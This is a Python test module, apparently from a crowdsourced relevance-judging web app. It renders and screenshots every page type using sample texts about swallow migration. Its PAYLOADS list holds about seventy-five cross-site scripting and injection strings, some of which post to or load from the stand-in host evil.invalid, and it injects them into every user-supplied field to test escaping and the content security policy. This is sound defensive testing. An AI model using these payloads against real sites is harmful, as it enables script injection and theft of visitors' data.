"""One page of every kind an assessor can see, and the worst that strangers may have written into it.

`python tests/server/web/gallery.py FOLDER` photographs all of them: light, dark and on a phone.
"""

import sys
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, replace
from functools import cache, partial
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from qrowd_server.campaigns.running.pages import DocumentText, Draft, Page, TopicText
from qrowd_server.protocols.events import Refusal
from qrowd_server.protocols.instructions import PRACTICE
from qrowd_server.protocols.settings import ASK_PAIR
from qrowd_server.protocols.views import (
    Answer,
    ConsentView,
    DocumentView,
    EndView,
    ExcludedView,
    FeedbackView,
    Grade,
    LinesView,
    LineView,
    LostView,
    NoneLeftView,
    PairView,
    PausedView,
    PauseView,
    QuestionView,
    RatingView,
    RevisionView,
    View,
)
from qrowd_server.web.app import static
from qrowd_server.web.languages import tags
from qrowd_server.web.rendering import (
    LanguageChoice,
    render_error,
    render_guidelines,
    render_landing,
    render_page,
    render_welcome,
)
from qrowd_server.web.security import CONTENT_POLICY
from server.pictures import png

TOPIC = TopicText(
    "why do swallows leave in autumn",
    "What makes swallows and similar birds leave their breeding grounds in autumn?",
    "A relevant document names a cause: food, length of day, cold, or an inner clock.\n\n"
    "A document that only describes routes or numbers of birds is not relevant.",
    ("Swallows feed on insects caught in flight.", "Birds kept in a room with constant light still grow restless."),
)
PLAIN = DocumentText(
    "The shortening day",
    "Swallows do not wait for the cold. Weeks before the first frost, the birds gather on wires, and one morning they "
    "are gone. What tells a swallow to leave is the length of the day, which falls by the same amount every year.\n\n"
    "Cold matters later, and by a detour: flying insects become rare when the nights are cool, and a bird that lives "
    "on insects has to follow them. Leaving early costs little; leaving late may cost everything.\n\n"
    + "\n\n".join(
        "Ringed birds show how exact this is. In one barn, over eleven years, the last swallow left between the "
        "twelfth and the nineteenth of September, whatever the weather had been."
        for _ in range(4)
    ),
    language="en",
)
HTML = DocumentText(
    "Notes from a bird station",
    "<html><head><title>x</title><style>p{color:red}</style></head><body><h1>What we counted</h1>"
    "<p onclick='x()'>On <b>3 September</b> most <a href='https://example.org'>swallows</a> had left &amp; few stayed; "
    "they were <i>leaving</i> by day.</p><ul><li>Barn swallow<li>House martin</ul><li>an item alone</li>"
    "<table><caption>Birds</caption><tr><th>Day<th>Swallows<tr><td>1<td>412<tr><td>3<td>18</table>"
    "<blockquote>They leave before the cold.</blockquote><pre>a    b\n1    2</pre>"
    "<img src=x onerror=alert(1)><script>alert(1)</script></body></html>",
    html=True,
)
ARABIC = DocumentText(
    "هجرة السنونو",
    "تغادر طيور السنونو في الخريف لأن الحشرات تقل والنهار يقصر.\n\nتعود الطيور في الربيع إلى أعشاشها القديمة.",
    language="ar",
)
LONG = DocumentText(
    "",
    "\n\n".join(f"Paragraph {i}. " + "Swallows leave. " + "Nothing else is told of it here. " * 12 for i in range(40)),
)
ODD = DocumentText("A" * 300, "no_spaces_" * 200 + "\n\n\u202eturned round\u202c \x00 \ufffd 𝔘𝔫𝔲𝔰𝔲𝔞𝔩 👩‍👩‍👧 \t tabs")
EMPTY = DocumentText("", "")
ADDRESSED = replace(PLAIN, url="https://birds.example.org/swallows/the-shortening-day.html?lang=en&page=1")
IMAGE = DocumentText("A page about swallows", "", url="https://birds.example.org/notes", image="/image/page.png")
TYPED = DocumentText(
    "swallows.py",
    "def leave(day):\n    if day.length < 12.5:  # hours\n        return 'the swallows leave'\n\treturn None\n\n"
    "Day        Swallows   Wind\n---------  ---------  ----------------------------------------------------------\n"
    "3 Sept          412   a light wind from the north-west, turning to the south in the afternoon, then none\n"
    "5 Sept           18   none\n",
    layout="pre",
)
PDF = DocumentText(
    "A leaflet about swallows", "Swallows leave in autumn.\n\nThey come back in April.", pages=("/image/page.png",) * 2
)
GUIDELINES = """\
# What counts as relevant

Judge whether the document **answers** the topic, not whether you like it.

1. Read the topic.
2. Read the document.

| Grade | When |
|-------|------|
| Bad | It says nothing of the topic. |
| Perfect | You would send it to a friend. |

![A page of text with a relevant sentence](example.png)

> In doubt, give the lower grade.

More at [the station](https://station.example/guide). `code` and

    a block of code
"""

GRADES = (
    Grade(1, "Bad", "Says nothing of the topic, or cannot be read."),
    Grade(2, "Fair", "Touches the topic without answering."),
    Grade(3, "Good", "Answers in part."),
    Grade(4, "Excellent", "Answers the question in full."),
    Grade(5, "Perfect", "What one would send to a friend who asked."),
)
BINARY = (Grade(0, "Not relevant"), Grade(1, "Relevant"))
DOCUMENTS = {1: PLAIN, 2: HTML, 3: ARABIC, 4: LONG, 5: ODD, 6: EMPTY, 7: ADDRESSED, 8: IMAGE,
             10: TYPED, 11: PDF}  # fmt: skip
DOCUMENT = DocumentView(
    position=2, of=8, document=1, answer=None, done=(True, True) + (False,) * 6, postponed=(False,) * 8, grades=(),
    reason="required",
)  # fmt: skip
PAIR = PairView(
    pair=3, number=4, left=1, right=2, new="right", at_most=14, may_undo=True, definitely=True, duplicates=False,
    may_mark_bad=True, has_context=True,
)  # fmt: skip


def page(view: View, **changes: object) -> Page:
    """A page that shows this view, in a campaign of our own."""
    made = Page(
        campaign="birds", title="Birds in autumn", protocol="magnitude", name="Ann", view=view, topic=TOPIC,
        documents=DOCUMENTS, shown="s1", key="k1", consent="You will read eight short documents. It takes ten "
        "minutes.\n\nYou may stop at any time.", instructions="Read the topic, then each document.\n\nTake your time.",
    )  # fmt: skip
    return replace(made, **changes)


def document(**changes: object) -> Page:
    """A page with one document to judge."""
    return page(replace(DOCUMENT, **changes))


def pair(**changes: object) -> Page:
    """A page with two documents."""
    return replace(page(replace(PAIR, **changes)), protocol="preference", ask=ASK_PAIR)


def guided(one: Page) -> Page:
    """The same page in a campaign that has guidelines."""
    pictures = (("example.png", "/image/page.png"),)
    return replace(one, guidelines=GUIDELINES, pictures=pictures, guidelines_at="/guidelines/x")


DONE = EndView("completed")
QUESTION = QuestionView(
    "What must a relevant document name?",
    ("The route the birds take", "A cause of leaving", "How many birds leave", "Where they spend the winter"),
    retry=False,
    left=2,
)
GALLERY: dict[str, Page] = {
    "consent": page(ConsentView()),
    "consent-default": page(ConsentView(), consent="", instructions=""),
    "consent-platform": page(ConsentView(), consent="", instructions="", name="5f01", named=False),
    "line": page(LineView(0, 3, 0.31), topic=None, practice_instructions=PRACTICE),
    "line-next": page(LineView(1, 3, 0.62), topic=None, practice_instructions=PRACTICE),
    "line-again": page(LineView(0, 3, 0.62, retry=True), topic=None),
    "lines-passed": page(LinesView((0.2, 0.45, 0.9), ("2", "4,5", "10"), True, 0), topic=None),
    "lines-failed": page(LinesView((0.2, 0.45, 0.9), ("20", "4", "10"), False, 1), topic=None),
    "question": page(QUESTION),
    "question-again": page(replace(QUESTION, retry=True, left=1)),
    "magnitude": document(),
    "magnitude-full": replace(document(), full_topic=True, ask="How new is this, after the documents before?"),
    "magnitude-first": document(position=0, done=(False,) * 8),
    "magnitude-given": document(answer=Answer("40", "It names the day's length."), revising=True, done=(True,) * 8),
    "magnitude-draft": replace(document(), draft=Draft("12", "Half a sent")),
    "magnitude-html": document(document=2),
    "magnitude-arabic": document(document=3),
    "magnitude-long": document(document=4),
    "magnitude-odd": document(document=5),
    "magnitude-empty": document(document=6),
    "magnitude-address": document(document=7, has_context=True),
    "grades-image": document(document=8, grades=GRADES, reason="none", has_context=True),
    "grades-reason": document(grades=GRADES, reason="optional", answer=Answer("4", "It names a cause.")),
    "grades-typed": document(document=10, grades=GRADES, reason="none"),
    "grades-pdf": document(document=11, grades=GRADES, reason="none"),
    "pair-typed": pair(left=10, right=11),
    "consent-guidelines": guided(page(ConsentView(), effort=(8, 12))),
    "none-left-guidelines": guided(page(NoneLeftView(0.0, False), effort=(1, 1), topic=None)),
    "lines-guidelines": guided(page(LinesView((0.2, 0.45, 0.9), ("2", "4,5", "10"), True, 0), topic=None)),
    "grades-guidelines": guided(document(grades=GRADES, reason="optional", may_not_tell=True, has_context=True)),
    "pair-guidelines": guided(pair()),
    "pair-images": pair(left=8, right=8),
    "grades": document(grades=GRADES, reason="optional", may_postpone=True, may_not_tell=True),
    "grades-given": document(
        grades=GRADES, reason="none", answer=Answer("4"), done=(True, False, True) + (False,) * 5,
        postponed=(False, True) + (False,) * 6, may_not_tell=True,
    ),
    "grades-forty": document(grades=GRADES, of=40, done=(True,) * 30 + (False,) * 10, postponed=(False,) * 40),
    "binary": document(grades=BINARY, reason="none"),
    "revision": page(RevisionView(8, 1)),
    "pair": pair(),
    "pair-full": replace(pair(), full_topic=True, ask="Which document would you read first?"),
    "pair-first": pair(pair=0, number=1, new="both", may_undo=False, definitely=False, duplicates=True),
    "pair-removed": pair(left=3, right=4, removed=True, at_most=1),
    "pair-odd": pair(left=5, right=6, has_context=False, may_mark_bad=False),
    "rating": page(RatingView()),
    "feedback": page(FeedbackView(False, False, "Fair", ("Good", "Excellent"), "It names two of the causes.")),
    "feedback-pair": page(FeedbackView(True, True, "left", ("left",), "")),
    "end": page(
        DONE, link="https://app.prolific.com/submissions/complete?cc=C0FFEE", code="C0FFEE", name="5f01", named=False,
        answers=(16, 15, 16), pseudonym="a3", retention_days=30,
    ),
    "end-early": page(EndView("completed", early=True, another=True), answers=(8, 8, 8)),
    "end-code": page(DONE, code="BIRD-77"),
    "end-invited": page(DONE, answers=(89, 86, 80), pseudonym="a3"),
    "end-failed": page(EndView("failed", another=True), answers=(8, 8, 0)),
    "end-screened": page(EndView("screened_out")),
    "end-practice": page(EndView("practice_failed"), topic=None),
    "end-practice-again": page(EndView("practice_failed", another=True), topic=None),
    "end-declined": page(EndView("declined"), topic=None),
    "end-declined-platform": page(EndView("declined"), topic=None, name="5f01", named=False),
    "none-left": page(NoneLeftView(4_000_000_000.0, False), topic=None),
    "none-left-ready": page(NoneLeftView(1_790_000_000.0, False), topic=None),
    "none-left-finished": page(NoneLeftView(None, True), topic=None, code="BIRD-77"),
    "none-left-never": page(NoneLeftView(None, False), topic=None),
    "none-left-decided": page(NoneLeftView(None, True, decided=True), topic=None, answers=(24, 24, 24)),
    "lost": page(LostView(40), topic=None, answers=(5, 5, 0)),
    "pause": page(PauseView(4_000_000_000.0), topic=None, answers=(12, 12, 12), pseudonym="a3"),
    "pause-platform": page(PauseView(4_000_000_000.0), topic=None, answers=(0, 0, 0), named=False),
    "paused": page(PausedView(), topic=None),
    "stopped": page(PausedView(stopped=True), topic=None, answers=(1, 1, 1), pseudonym="a3"),
    "excluded": page(ExcludedView(), topic=None, answers=(9, 9, 0)),
}  # fmt: skip
GALLERY = {name: replace(one, shown=name, key=f"key of {name}") for name, one in GALLERY.items()}
PROBLEMS: dict[str, tuple[Page, Refusal, Mapping[str, str]]] = {
    "problem-number": (
        document(),
        Refusal("number", "Enter a number greater than 0, for example 0.5, 10 or 250.", "text"),
        {"text": "many", "reason": "kept"},
    ),
    "problem-option": (GALLERY["question"], Refusal("option", "Choose one answer.", "option"), {}),
    "problem-whole": (document(), Refusal("stale", "Your task has moved on."), {"text": "7"}),
    "problem-rating": (GALLERY["rating"], Refusal("missing", "Choose one.", "understanding"), {"confidence": "4"}),
}
STATUSES = (403, 404, 409, 413, 422, 429, 500, 503)


@cache
def drawn(base: str = "/c/birds", tag: str = "en") -> dict[str, str]:
    """Every page as HTML in a language, by name."""
    choice = LanguageChoice("t", (("en", "ltr", "English"), ("de", "ltr", "Deutsch"), ("ja", "ltr", "日本語")))
    whole: Any = {"csrf": "t0ken", "base": base, "tag": tag, "choice": choice}
    pages = {name: render_page(one, **whole) for name, one in GALLERY.items()}
    for name, (one, problem, typed) in PROBLEMS.items():
        pages[name] = render_page(replace(one, shown=name), **whole, problem=problem, typed=typed)
    language: Any = {"tag": tag, "choice": choice}
    invitation = {"csrf": "t", "action": "/join/x", "name": "Ann", "effort": (8, 12), **language}
    pages["welcome"] = render_welcome("Birds in autumn", **invitation)
    pages["guidelines"] = render_guidelines(guided(document()), **language)
    pages["landing"] = render_landing(**language)
    for status in STATUSES:
        reference = "7F3A" if status >= 500 else ""
        pages[f"error-{status}"] = render_error(status, reference=reference, back=base, retry_after=2, tag=tag)
    return pages


PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.invalid/p.png>",
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<img srcset='https://evil.invalid/a 1x'>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>body{background:url(https://evil.invalid/b)}</style>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<link rel=prefetch href=https://evil.invalid/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=//evil.invalid>x</a>",
    "<body onload=alert(1)>",
    "<body background=https://evil.invalid/b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.invalid/p></video>",
    "<audio src=https://evil.invalid/a autoplay onerror=alert(1)></audio>",
    "<source src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<button onclick=alert(1) form=judge name=do value=judge>x</button>",
    "<form action=https://evil.invalid/ method=post><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=https://evil.invalid/t><tr><td>x</table>",
    "<div style='background:url(https://evil.invalid/d)'>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<div id=main data-base=https://evil.invalid>x</div>",
    "<p class=primary data-default data-keys=1>x</p>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
)  # fmt: skip


def poisoned(payload: str) -> dict[str, str]:
    """Pages of all kinds with a payload in every text that somebody else may have written."""
    text = {name: DocumentText(payload, payload, html, payload) for name, html in ((1, True), (2, False))}
    topic = TopicText(payload, payload, payload, (payload,))
    grades = (Grade(1, payload, payload), Grade(2, "b"))
    views: dict[str, View] = {
        "consent": ConsentView(),
        "line": LineView(0, 3, 0.5),
        "question": QuestionView(payload, (payload, payload), True, 1),
        "lines": LinesView((0.1, 0.2), (payload, "2"), False, 1),
        "magnitude": replace(DOCUMENT, answer=Answer(payload, payload)),
        "grades": replace(DOCUMENT, document=2, grades=grades),
        "pair": PAIR,
        "end": EndView("completed"),
        "rating": RatingView(),
    }
    pages = {}
    for name, view in views.items():
        one = page(view, title=payload, campaign=payload, name=payload, topic=topic, documents=text, consent=payload,
                   instructions=payload, practice_instructions=payload, ask=payload, full_topic=name == "pair",
                   shown=payload, key=payload, code=payload, link=payload)  # fmt: skip
        refusal = Refusal("x", payload, "text" if name == "magnitude" else "")
        typed = {"text": payload, "reason": payload, "comment": payload}
        pages[name] = render_page(one, csrf=payload, base="/c/birds", problem=refusal, typed=typed)
    pages["welcome"] = render_welcome(payload, csrf=payload, action="/c/x", name=payload)
    pages["error"] = render_error(500, message=payload, reference=payload, back="/c/birds")
    return pages


LOOKS = {
    "light": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "light"},
    "dark": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "dark"},
    "phone": {"viewport": {"width": 390, "height": 780}, "color_scheme": "light", "device_scale_factor": 2},
}


@dataclass
class Gallery:
    """The pages at `base`, each under its name. reports : what the content policy forbade."""

    base: str
    pages: dict[str, str]
    app: Any
    reports: list[str]


@contextmanager
def gallery(base: str, tags: tuple[str, ...] = ("en",)) -> Iterator[Gallery]:
    """An application that shows all pages under the policy of the real one; those in German as "de-NAME"."""
    reports: list[str] = []
    pages = {f"{tag}-{name}" if tag != "en" else name: one for tag in tags for name, one in drawn(tag=tag).items()}
    headers = {"content-security-policy": f"{CONTENT_POLICY}; report-uri /csp"}

    async def show(request: Request) -> Response:
        return HTMLResponse(pages[request.path_params["name"]], headers=headers)

    async def report(request: Request) -> Response:
        reports.append((await request.body()).decode())
        return Response(status_code=204)

    routes = [
        Route("/static/{name:path}", static),
        Route("/csp", report, methods=["POST"]),
        Route("/image/page.png", lambda _: Response(png(900, 1600), media_type="image/png")),
        Route("/{name}", show),
    ]
    yield Gallery(base, pages, Starlette(routes=routes), reports)


def photograph(folder: Path, names: tuple[str, ...] = ()) -> list[Path]:
    """PNG pictures of the pages named, or of all: one per look."""
    from browsers import chromium
    from server.web.pseudo import with_arabic
    from webserver import listening

    folder.mkdir(parents=True, exist_ok=True)
    files = []
    with (
        TemporaryDirectory() as made_up,
        with_arabic(Path(made_up)),
        listening(partial(gallery, tags=tags())) as site,
        chromium() as browser,
    ):
        for look, options in LOOKS.items():
            tab = browser.new_context(**options).new_page()
            for name in names or drawn():
                tab.goto(f"{site.base}/{name}")
                files.append(folder / f"{name}-{look}.png")
                tab.screenshot(path=files[-1])
    return files


if __name__ == "__main__":
    print(*photograph(Path(sys.argv[1]), tuple(sys.argv[2:])), sep="\n")
